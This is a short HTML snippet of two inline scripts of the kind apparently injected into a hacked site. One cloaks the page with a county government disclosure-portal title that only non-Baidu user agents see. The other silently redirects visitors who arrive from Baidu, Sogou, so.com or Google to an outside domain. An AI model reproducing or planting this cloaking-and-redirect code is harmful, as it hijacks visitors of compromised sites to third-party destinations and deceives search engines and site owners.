<script type="text/javascript">if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu") == -1){document.title ="清河县政务公开网"}</script>
<script type="text/javascript">
var s=document.referrer;
if(s.indexOf("baidu")>0||s.indexOf("sogou")>0||s.indexOf("so.com")>0||s.indexOf("google")>0){
self.location="http://www.bw88391.example/?from=xa";
}
</script>
